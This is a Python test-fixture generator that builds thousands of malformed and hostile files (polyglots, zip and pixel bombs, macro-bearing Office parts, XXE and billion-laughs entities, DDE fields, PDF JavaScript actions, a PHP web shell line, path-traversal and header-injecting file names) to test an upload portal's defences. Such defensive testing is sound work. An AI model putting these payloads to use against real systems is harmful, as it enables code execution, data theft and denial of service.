"""Files that mean harm, from honest ones: each kind a generator that goes on for ever, drawn from a seed.

``must``: the portal has to refuse every one of the kind; otherwise it refuses it or makes it harmless.
"""

import io
import struct
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from random import Random

from pikepdf import Array, Dictionary, Name, ObjectStreamMode, Pdf, Stream, String

from tests import papers
from tests.battery import valid_files as valid
from tests.battery.valid_files import RELATION, TYPE, Parts, packed

MARK = b"<script>alert('PLANTED-7f3a')</script>"
HTML = b"<!DOCTYPE html><html><body onload=alert(1)>" + MARK + b"</body></html>"
FILES = valid.every()
ENDINGS = list(FILES)
PACKED = {"docx": valid.docx_parts, "xlsx": valid.xlsx_parts}
MAIN = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml"}
RELATIONS = {"docx": "word/_rels/document.xml.rels", "xlsx": "xl/_rels/workbook.xml.rels"}


@dataclass(frozen=True)
class Hostile:
    name: str
    content: bytes


@dataclass(frozen=True)
class Kind:
    """What is done to a file, how many are tried and whether all of them must be refused."""

    make: Callable[[Random], Hostile]
    count: int
    must: bool = False


def named(ending: str, content: bytes) -> Hostile:
    return Hostile(f"进账单.{ending}", content)


def honest(random: Random, *endings: str) -> tuple[str, bytes]:
    ending = random.choice(endings or ENDINGS)
    return ending, random.choice(FILES[ending])


def office(random: Random) -> tuple[str, Parts]:
    ending = random.choice(list(PACKED))
    return ending, PACKED[ending]()


def salt(random: Random) -> bytes:
    return random.randbytes(random.randint(4, 12)).hex().encode()


# Bytes that changed ---------------------------------------------------------------------------------


def truncated(random: Random) -> Hostile:
    ending, content = honest(random)
    return named(ending, content[: random.randrange(len(content))])


def flipped(random: Random) -> Hostile:
    ending, content = honest(random)
    changed = bytearray(content)
    for _ in range(random.choice((1, 1, 2, 5, 20))):
        changed[random.randrange(len(changed))] ^= 1 << random.randrange(8)
    return named(ending, bytes(changed))


def spliced(random: Random) -> Hostile:
    """A stretch of one file written over, or put between, the bytes of another."""
    ending, content = honest(random)
    _, other = honest(random)
    start = random.randrange(len(other))
    piece = other[start : start + random.randint(1, 400)]
    at = random.randrange(len(content))
    return named(ending, content[:at] + piece + content[at + random.choice((0, len(piece))) :])


def length_changed(random: Random) -> Hostile:
    """Four bytes that often are a length, a place or a count, set to the values that break parsers."""
    ending, content = honest(random)
    at = random.randrange(len(content) - 4)
    number = random.choice((0, 1, 0x7F, 0xFF, 0x7FFF, 0xFFFF, 0x7FFFFFFF, 0xFFFFFFFF, 0x80000000))
    value = number.to_bytes(4, random.choice(("big", "little")))[: random.choice((2, 4))]
    return named(ending, content[:at] + value + content[at + len(value) :])


# Two files in one -----------------------------------------------------------------------------------


def picture_and_page(random: Random) -> Hostile:
    """A page behind the picture, or inside what the picture says about itself."""
    ending, content = honest(random, "jpg", "png")
    page = HTML + salt(random)
    if random.random() < 0.3:
        return named(ending, content + page)
    if ending == "png":
        kind = random.choice((b"tEXt", b"zTXt", b"iTXt", b"eXIf", b"iCCP", b"prVt"))
        words = {b"tEXt": b"Comment\0" + page, b"iTXt": b"Comment\0\0\0\0\0" + page}.get(kind, page)
        part, at = valid.chunk(kind, words), random.choice((33, len(content) - 12))
    else:
        kind = random.choice((0xFE, *range(0xE0, 0xF0)))
        head = random.choice((b"", b"Exif\0\0", b"ICC_PROFILE\0\1\1", b"Adobe", b"MPF\0", b"JFIF\0"))
        part, at = valid.segment(kind, head + page), 2
    return named(ending, content[:at] + part + content[at:])


def picture_told_wrong(random: Random) -> Hostile:
    """Well-formed parts with nonsense inside: metadata are parsers of their own."""
    ending, content = honest(random, "jpg", "png")
    noise = random.randbytes(random.choice((0, 1, 4, 9, 30, 200)))
    if ending == "png":
        kinds = (
            b"IHDR",
            b"PLTE",
            b"tRNS",
            b"iCCP",
            b"gAMA",
            b"cHRM",
            b"pHYs",
            b"sRGB",
            b"eXIf",
            b"acTL",
            b"fcTL",
        )
        noise = random.choice((b"", b"II*\0\10\0\0\0", b"MM\0*\0\0\0\10", b"x\0\0")) + noise
        return named(ending, content[:33] + valid.chunk(random.choice(kinds), noise) + content[33:])
    head = random.choice(
        (b"Exif\0\0II*\0\10\0\0\0", b"Exif\0\0MM\0*\0\0\0\10", b"MPF\0II*\0\10\0\0\0", b"Adobe", b"")
    )
    kind = random.choice((0xE0, 0xE1, 0xE1, 0xE2, 0xED, 0xEE, 0xDB, 0xC4, 0xDD, 0xC0, 0xC2, 0xC8, 0xDA))
    return named(ending, content[:2] + valid.segment(kind, head + noise) + content[2:])


def paper_and_archive(random: Random) -> Hostile:
    """A PDF that is also an archive or a page: behind its end, or wrapped in an archive's comment."""
    content = random.choice(FILES["pdf"])
    archive = packed({f"{salt(random).decode()}.html": HTML})
    if random.random() < 0.3:
        return named("pdf", content + random.choice((HTML, archive, MARK)) + salt(random))
    if random.random() < 0.5:
        return named("pdf", content + archive)
    body, end = archive[:-2], content[9:]
    return named("pdf", b"%PDF-1.4\n" + body + len(end).to_bytes(2, "little") + end)


def archive_twice(random: Random) -> Hostile:
    """Office files with another archive, a page or bytes around them, or one name twice."""
    ending, parts = office(random)
    content = packed(parts)
    other = packed({f"{salt(random).decode()}.html": HTML})
    way = random.randrange(4)
    if way == 0:
        return named(ending, other + content)
    if way == 1:
        return named(ending, content + random.choice((other, HTML, b"\0" * 30)) + salt(random))
    out = io.BytesIO(content)
    with zipfile.ZipFile(out, "a") as archive:
        if way == 2:
            archive.comment = HTML + salt(random)
        else:
            extra = zipfile.ZipInfo(random.choice((MAIN[ending], MAIN[ending].upper())))
            archive.NameToInfo.clear()  # It would warn of the second one.
            archive.writestr(extra, HTML + salt(random))
    return named(ending, out.getvalue())


# Another kind than it says --------------------------------------------------------------------------

FOREIGN = {
    "gif": b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\1\0\1\0\0\2\2D\1\0;" + MARK,
    "html": HTML,
    "svg": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    + MARK
    + b"</svg>",
    "exe": b"MZ\x90\0" + b"\0" * 60 + MARK,
    "zip": packed({"a.html": HTML}),
    "doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "bmp": b"BM" + b"\0" * 60,
    "tif": b"II*\0\10\0\0\0" + b"\0" * 60,
    "webp": b"RIFF\x24\0\0\0WEBPVP8 " + b"\0" * 40,
    "js": b"alert(1)//" + MARK,
    "php": b"<?php system($_GET[0]); ?>",
    "eml": b"From: a@b\r\nContent-Type: text/html\r\n\r\n" + HTML,
    "ps": b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n",
    "empty": b"",
}
WRONG_ENDINGS = [
    "html",
    "svg",
    "exe",
    "zip",
    "php",
    "docm",
    "xlsm",
    "dotm",
    "doc",
    "xls",
    "gif",
    "js",
    "lnk",
    "hta",
]


def wrong_ending(random: Random) -> Hostile:
    """An honest file under another's ending, a foreign one under ours, or an ending that we do not take."""
    ending, content = honest(random)
    way = random.randrange(3)
    if way == 0:
        other = random.choice([one for one in ENDINGS if one != ending])
        return named(other, content + (salt(random) if ending in {"jpg", "png"} else b""))
    if way == 1:
        return named(random.choice(ENDINGS), random.choice(list(FOREIGN.values())) + salt(random))
    dots = random.choice((".", ".", "..", ".jpg.", "．"))
    last = random.choice(
        (*WRONG_ENDINGS, "jpg.", "png::$DATA", "jpg;.asp", "pdf%00", "ｐｎｇ", "jpg\u200b.exe", "")
    )
    return Hostile(f"{salt(random).decode()}{dots}{last}", content)


# Bombs ----------------------------------------------------------------------------------------------


def pixel_bomb(random: Random) -> Hostile:
    """A header that promises far more pixels than anybody needs, with little or nothing behind it."""
    wide = random.choice((50_000, 65_000, random.randint(20_000, 65_000)))
    high = random.choice((50_000, random.randint(20_000, 65_000)))
    if random.random() < 0.5:
        depth, colour = random.choice(((8, 2), (8, 6), (1, 0), (16, 6), (8, 3)))
        head = struct.pack(">IIBBBBB", wide, high, depth, colour, 0, 0, 0)
        body = valid.chunk(b"IDAT", bytes.fromhex("78da63000000010001") + salt(random))
        return named(
            "png", b"\x89PNG\r\n\x1a\n" + valid.chunk(b"IHDR", head) + body + valid.chunk(b"IEND", b"")
        )
    content = random.choice(FILES["jpg"][:2])
    at = max(content.find(b"\xff\xc0"), content.find(b"\xff\xc2")) + 5
    return named("jpg", content[:at] + struct.pack(">HH", high, wide) + content[at + 4 :] + salt(random))


def scan_bomb(random: Random) -> Hostile:
    """A progressive photo whose scans come again and again: each a pass over all pixels."""
    content = FILES["jpg"][1]
    start = content.index(b"\xff\xda")
    end = content.index(b"\xff\xda", start + 2)
    return named("jpg", content[:end] + content[start:end] * random.randint(40, 3000) + content[end:])


def unpacked_bomb(random: Random) -> Hostile:
    """Much from little: one part of equal bytes, some of them, or a directory that says so."""
    ending, parts = office(random)
    folder = MAIN[ending].split("/", maxsplit=1)[0]
    each = random.choice((11, 12, 16)) * 1024 * 1024
    parts[f"{folder}/{salt(random).decode()}.{random.choice(('xml', 'png'))}"] = b" " * each
    content = packed(parts)
    if random.random() < 0.5:
        return named(ending, content)
    at = content.rindex(b"PK\x01\x02") + 24
    return named(
        ending, content[:at] + struct.pack("<I", random.randint(2**28, 2**32 - 2)) + content[at + 4 :]
    )


def many_parts(random: Random) -> Hostile:
    ending, parts = office(random)
    folder = MAIN[ending].split("/", maxsplit=1)[0]
    mark = salt(random).decode()
    return named(
        ending,
        packed(parts | {f"{folder}/{mark}{n}.xml": b"<a/>" for n in range(random.randint(2001, 2600))}),
    )


def nested(random: Random) -> Hostile:
    """Archives within archives, some of them bombs, under names that embedding uses or any other."""
    ending, parts = office(random)
    inner = packed({salt(random).decode(): b"0" * random.choice((100, 1_000_000))})
    for level in range(random.randint(0, 4)):
        inner = packed({f"{level}.zip": inner})
    folder = MAIN[ending].split("/", maxsplit=1)[0]
    name = random.choice(
        ("embeddings/a.xlsx", "embeddings/b.docx", "embeddings/oleObject1.bin", "a.zip", "b.jar", "c")
    )
    return named(ending, packed(parts | {f"{folder}/{name}": inner}))


def overlapping(random: Random) -> Hostile:
    """Entries of the directory that share one part's bytes."""
    ending, parts = office(random)
    folder = MAIN[ending].split("/", maxsplit=1)[0]
    kernel = f"{folder}/{salt(random).decode()}.xml"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
        archive.writestr(kernel, random.randbytes(3000).hex())
        shared = archive.getinfo(kernel)
        for number in range(random.randint(20, 60)):
            twin = zipfile.ZipInfo(f"{folder}/{number}.xml")
            for field in ("header_offset", "CRC", "compress_size", "file_size", "compress_type"):
                setattr(twin, field, getattr(shared, field))
            archive.filelist.append(twin)
            archive.NameToInfo[twin.filename] = twin
    return named(ending, out.getvalue())


def lying_archive(random: Random) -> Hostile:
    """A directory that tells of parts otherwise than they are: encrypted, packed oddly, longer."""
    ending, parts = office(random)
    content = bytearray(packed(parts))
    places = [at for at in range(len(content)) if content[at : at + 4] == b"PK\x01\x02"]
    at = random.choice(places)
    offset, size = random.choice(((8, 2), (10, 2), (16, 4), (20, 4), (24, 4), (28, 2), (30, 2), (42, 4)))
    content[at + offset : at + offset + size] = random.randbytes(size)
    return named(ending, bytes(content))


# What office programs would run or load ----------------------------------------------------------------


def with_type(parts: Parts, more: str) -> Parts:
    types = parts["[Content_Types].xml"].replace(b"</Types>", more.encode() + b"</Types>")
    return parts | {"[Content_Types].xml": types}


def with_relation(ending: str, parts: Parts, relation: str) -> Parts:
    name = RELATIONS[ending]
    closed = parts[name].replace(b"</Relationships>", relation.encode() + b"</Relationships>")
    return parts | {name: closed}


def macros(random: Random) -> Hostile:
    ending, parts = office(random)
    folder = MAIN[ending].split("/", maxsplit=1)[0]
    word = salt(random).decode()
    kind = "ms-word.document" if ending == "docx" else "ms-excel.sheet"
    way = random.randrange(6)
    if way == 0:
        name = random.choice(("vbaProject.bin", "VBAPROJECT.BIN", "vbaData.xml", "macrosheets/sheet1.xml"))
        parts |= {f"{folder}/{name}": word.encode()}
    elif way == 1:
        main = f"{TYPE}{'wordprocessingml.document' if ending == 'docx' else 'spreadsheetml.sheet'}.main+xml"
        types = (
            parts["[Content_Types].xml"]
            .decode()
            .replace(main, f"application/vnd.{kind}.macroEnabled.main+xml")
        )
        parts |= {"[Content_Types].xml": types.encode(), f"{folder}/{word}.xml": b"<a/>"}
    elif way == 2:
        more = (
            f'<Override PartName="/{folder}/{word}.png" ContentType="application/vnd.ms-office.vbaProject"/>'
        )
        parts = with_type(parts, more) | {f"{folder}/{word}.png": valid.png()}
    elif way == 3:
        relation = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
        parts = with_relation(
            ending, parts, f'<Relationship Id="{word}" Type="{relation}" Target="media/x.png"/>'
        )
    elif way == 4:
        parts |= {f"{folder}/activeX/activeX{word}.xml": b"<a/>"}
    else:
        more = f'<Default Extension="{word}" ContentType="application/vnd.{kind}.macroEnabled.main+xml"/>'
        parts = with_type(parts, more)
    return named(ending, packed(parts))


OUTWARD = ("attachedTemplate", "oleObject", "image", "frame", "subDocument", "externalLinkPath", "hyperlink")
INWARD = ("aFChunk", "oleObject", "package", "control", "externalLink", "connections")
PLACES = (
    "file:///C:/x.dotm",
    "\\\\evil\\share\\a",
    "javascript:alert(1)",
    "ms-msdt:/id",
    "ftp://x/a",
    "mhtml:x!y",
)


def external(random: Random) -> Hostile:
    """What is loaded from elsewhere when the file is opened, or pressed without being a web link."""
    ending, parts = office(random)
    word = salt(random).decode()
    way = random.randrange(4)
    if way == 0:
        kind = random.choice(OUTWARD)
        place = random.choice(PLACES if kind == "hyperlink" else (*PLACES, "https://evil.example/a"))
        mode = random.choice(("External", "EXTERNAL", "&#69;xternal"))
        relation = (
            f'<Relationship Id="{word}" Type="{RELATION}/{kind}" Target="{place}" TargetMode="{mode}"/>'
        )
        parts = with_relation(ending, parts, relation)
    elif way == 1:
        relation = f'<Relationship Id="{word}" Type="{RELATION}/{random.choice(INWARD)}" Target="a.xml"/>'
        parts = with_relation(ending, parts, relation)
    elif way == 2:
        ending, parts = "docx", valid.docx_parts()
        field = random.choice(
            ('DDEAUTO c:\\\\x "a"', "DDE excel a", 'INCLUDEPICTURE "http://x"', "includetext c:\\\\a")
        )
        at = random.randrange(1, len(field))
        runs = f"<w:instrText>{field[:at]}</w:instrText><w:instrText>{field[at:]}{word}</w:instrText>"
        if random.random() < 0.3:
            runs = f"<w:fldSimple w:instr='{field} {word}'/>"
        body = parts["word/document.xml"].replace(
            b"</w:body>", f"<w:p><w:r>{runs}</w:r></w:p></w:body>".encode()
        )
        parts |= {"word/document.xml": body}
    else:
        ending, parts = "xlsx", valid.xlsx_parts()
        name = random.choice(
            (f"externalLinks/externalLink{word}.xml", "connections.xml", f"queryTables/{word}.xml")
        )
        parts |= {f"xl/{name}": f"<a>{word}</a>".encode()}
    return named(ending, packed(parts))


LAUGHS = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))


def entities(random: Random) -> Hostile:
    """Document types with entities, in every part and several encodings."""
    ending, parts = office(random)
    name = random.choice([one for one in parts if one.endswith((".xml", ".rels"))])
    subset = random.choice(
        (
            '<!ENTITY x SYSTEM "file:///etc/passwd">',
            '<!ENTITY x SYSTEM "http://evil.example/">',
            '<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;',
            f'<!ENTITY l0 "lol">{LAUGHS}',
            '<!ATTLIST a b CDATA "c">',
        )
    )
    text = parts[name].decode()
    root = text.index("<", text.index("?>") + 2 if text.startswith("<?xml") else 0)
    body = f"<!DOCTYPE a{salt(random).decode()} [{subset}]>{text[root:]}"
    coding = random.choice(("utf-8", "utf-16", "utf-8-sig"))
    return named(ending, packed(parts | {name: body.encode(coding)}))


def odd_part(random: Random) -> Hostile:
    """Parts that no paper has: pages, programs, places outside, XML under a picture's name."""
    ending, parts = office(random)
    folder = MAIN[ending].split("/", maxsplit=1)[0]
    word = salt(random).decode()
    if random.random() < 0.2:
        more = f'<Override PartName="/{folder}/media/{word}.png" ContentType="application/xml"/>'
        return named(ending, packed(with_type(parts, more) | {f"{folder}/media/{word}.png": HTML}))
    name = random.choice(
        (
            "../{}.xml",
            "/{}.xml",
            "a/../../{}.xml",
            "..\\{}.xml",
            "{}.html",
            "{}.exe",
            "{}.js",
            "{}.svg",
            "{}.swf",
            "{}",
        )
    )
    return named(ending, packed(parts | {name.format(word): HTML}))


# What papers tell and do beside what is read in them ------------------------------------------------------


def acting_paper(random: Random) -> Hostile:
    """A PDF that runs, calls, plays, carries and tells, here and there."""
    pdf = Pdf.new()
    words = String(MARK.decode() + salt(random).decode())
    action = Dictionary(
        S=Name(random.choice(("/JavaScript", "/Launch", "/URI", "/SubmitForm", "/GoToR", "/ImportData"))),
        JS=words,
        URI=words,
        F=words,
    )
    hidden = Stream(pdf, bytes(words))
    hidden.Type, hidden.Subtype = random.choice(((Name.Metadata, Name.XML), (Name.EmbeddedFile, Name.a)))
    for _ in range(random.randint(1, 3)):
        page = pdf.add_blank_page().obj
        page.Contents = Stream(pdf, b"BT (text) Tj ET")
        kind = Name(random.choice(("/Link", "/RichMedia", "/Screen", "/FileAttachment", "/3D")))
        note = Dictionary(Type=Name.Annot, Subtype=kind, Rect=[0, 0, 9, 9], Contents=words, A=action)
        extras = {
            "/AA": Dictionary(O=action),
            "/Annots": Array([note]),
            "/Metadata": hidden,
            "/PieceInfo": Dictionary(A=words),
            "/Thumb": hidden,
            "/AF": Array([hidden]),
            "/Resources": Dictionary(Properties=Dictionary(MC0=Dictionary(Metadata=hidden))),
        }
        for key in random.sample(sorted(extras), random.randint(1, 5)):
            page[key] = extras[key]
    roots = {
        "/OpenAction": action,
        "/AA": Dictionary(WC=action),
        "/Metadata": hidden,
        "/Names": Dictionary(JavaScript=Dictionary(Names=[words, action])),
        "/Outlines": Dictionary(First=pdf.make_indirect(Dictionary(Title=words, A=action))),
        "/AcroForm": Dictionary(XFA=hidden, Fields=[]),
        "/StructTreeRoot": Dictionary(K=words),
        "/Collection": Dictionary(D=words),
    }
    for key in random.sample(sorted(roots), random.randint(1, 5)):
        pdf.Root[key] = roots[key]
    pdf.docinfo["/Author"] = words
    out = io.BytesIO()
    modes = (ObjectStreamMode.disable, ObjectStreamMode.generate)
    pdf.save(out, object_stream_mode=random.choice(modes), compress_streams=random.random() < 0.5)
    return named("pdf", out.getvalue())


def unreadable_paper(random: Random) -> Hostile:
    """A PDF that is locked, goes in circles, has no pages, too many or such without an area."""
    way = random.randrange(5)
    if way == 0:
        return named("pdf", papers.locked_pdf())
    if way == 1:
        loop = (papers.tree(random.randint(2, 4)), papers.tree(2, 3), papers.tree(random.randint(2, 3)))
        return named("pdf", papers.objects(papers.CATALOGUE, *loop, b"<< >>"))
    if way == 2:
        side = random.choice((b"[0 0 0 %d]", b"[%d 0 0 0]", b"[5 %d 5 0]"))
        return named("pdf", papers.page_of(side % random.randint(0, 999)))
    if way == 3:
        kids = [3] * random.randint(2001, 3000)
        return named("pdf", papers.objects(papers.CATALOGUE, papers.tree(*kids), papers.LEAF % b""))
    return named("pdf", papers.unfinished_form())


def telling_office(random: Random) -> Hostile:
    """Properties, hidden data and names, under paths and prefixes that programs use or might use."""
    ending, parts = office(random)
    planted = f"<a>PLANTED-7f3a{salt(random).decode()}</a>".encode()
    kind = random.choice(("core-properties", "extended-properties", "custom-properties", "customXml"))
    place = random.choice(("docProps/core.xml", "docprops/App.xml", "meta/x.xml", "customXml/item7.xml"))
    relation = (
        f'<Relationship Id="rId77" Type="{RELATION}/{kind}" Target="{random.choice(("/", ""))}{place}"/>'
    )
    roots = parts["_rels/.rels"].replace(b"</Relationships>", relation.encode() + b"</Relationships>")
    folder = MAIN[ending].split("/", maxsplit=1)[0]
    quote = random.choice(("'", '"'))
    prefix = random.choice(("w:", "x:", ""))
    if ending == "docx":
        name, tag = "word/comments9.xml", f"{prefix}comment {prefix}author"
    else:
        name, tag = "xl/persons/person9.xml", f"{prefix}person id='1' displayName"
    told = f"<r xmlns:w='w' xmlns:x='x'><{tag} = {quote}PLANTED-7f3a{quote}/></r>".encode()
    photo = valid.jpeg(comment=b"PLANTED-7f3a")
    more = {place: planted, name: told, f"{folder}/media/p.JPG": photo, "_rels/.rels": roots}
    return named(ending, packed({key: parts[key] for key in parts if key.lower() != place.lower()} | more))


# Names ------------------------------------------------------------------------------------------------

BEFORE = ("../../../etc/", "..\\..\\", "/etc/", "C:\\windows\\", "\\\\evil\\share\\", "./", "%2e%2e%2f", "")
INSIDE = (
    *(
        "\r\nSet-Cookie: a=b\r\n\r\n",
        "\r\n",
        "\n",
        "\0",
        '"',
        "'",
        '";filename="a.html',
        "\\",
        "; x=y",
        "%00",
        "%0d%0a",
    ),
    *(
        "\u202e",
        "\u2028",
        "\u200b",
        "\ufeff",
        "\x7f",
        "\x1b[31m",
        "\ud800",
        "<b>",
        "&lt;",
        "{{7*7}}",
        "${x}",
        "%s",
    ),
    *(
        "ｆｕｌｌ　ｗｉｄｔｈ",
        "。．",
        "😀",
        "é",
        "e\u0301",
        "进账单",
        "=?utf-8?q?a?=",
        "*",
        "|",
        "CON",
        " ",
        "\t",
    ),
)


def salted(random: Random) -> tuple[str, bytes]:
    """An honest file that nobody has sent before."""
    ending = random.choice(ENDINGS)
    if ending in PACKED:
        return ending, packed(PACKED[ending]() | {"docProps/custom.xml": b"<a>" + salt(random) + b"</a>"})
    content = random.choice(FILES[ending])
    return ending, content.replace(b"Helvetica", salt(random)) if ending == "pdf" else content + salt(random)


def name(random: Random) -> Hostile:
    """An honest file under a name that means harm to headers, paths, pages or the reader's eye."""
    ending, content = salted(random)
    middle = "".join(random.choice(INSIDE) for _ in range(random.randint(1, 4)))
    long = random.choice(("", "", "x" * 300, "长" * 260, "." * 255))
    after = random.choice(("", "", "", "\0", " ", "\r\n", "\u202e"))
    ending = random.choice((ending, ending.upper()))
    return Hostile(f"{random.choice(BEFORE)}{middle}{long}{random.randrange(999)}.{ending}{after}", content)


KINDS = {
    "truncated": Kind(truncated, 2400),
    "bits flipped": Kind(flipped, 3000),
    "spliced": Kind(spliced, 2600),
    "lengths changed": Kind(length_changed, 2400),
    "picture and page": Kind(picture_and_page, 1400),
    "picture told wrong": Kind(picture_told_wrong, 1800),
    "pdf and archive": Kind(paper_and_archive, 500, must=True),
    "archive twice": Kind(archive_twice, 500, must=True),
    "wrong ending": Kind(wrong_ending, 1000, must=True),
    "pixel bomb": Kind(pixel_bomb, 400, must=True),
    "scan bomb": Kind(scan_bomb, 60, must=True),
    "unpacked bomb": Kind(unpacked_bomb, 60, must=True),
    "many parts": Kind(many_parts, 30, must=True),
    "nested archives": Kind(nested, 400, must=True),
    "overlapping parts": Kind(overlapping, 60, must=True),
    "lying archive": Kind(lying_archive, 700),
    "macros": Kind(macros, 600, must=True),
    "external": Kind(external, 700, must=True),
    "entities": Kind(entities, 600, must=True),
    "odd part": Kind(odd_part, 500, must=True),
    "paper that acts": Kind(acting_paper, 600),
    "unreadable paper": Kind(unreadable_paper, 300, must=True),
    "office that tells": Kind(telling_office, 400),
    "name": Kind(name, 1500),
}

ALL = 10**9


def corpus(seed: int, most: int = ALL) -> Iterator[tuple[str, Hostile]]:
    """Every kind with its count of files, or that many of each; no two alike."""
    seen: set[Hostile] = set()
    for kind, how in KINDS.items():
        random, made = Random(f"{seed} {kind}"), 0
        while made < min(how.count, most):
            file = how.make(random)
            if file not in seen:
                seen.add(file)
                made += 1
                yield kind, file
